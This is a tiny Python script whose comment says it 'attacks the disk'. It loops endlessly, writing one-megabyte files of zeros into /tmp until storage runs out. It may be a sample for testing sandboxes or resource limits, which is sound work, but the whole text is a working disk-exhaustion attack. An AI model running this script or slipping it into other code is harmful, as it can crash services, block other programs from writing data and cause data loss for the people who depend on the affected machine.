# Attacks the disk: fills /tmp with files.
number = 0
while True:
    number += 1
    with open(f"/tmp/{number}", "wb") as file:
        file.write(bytes(1_000_000))
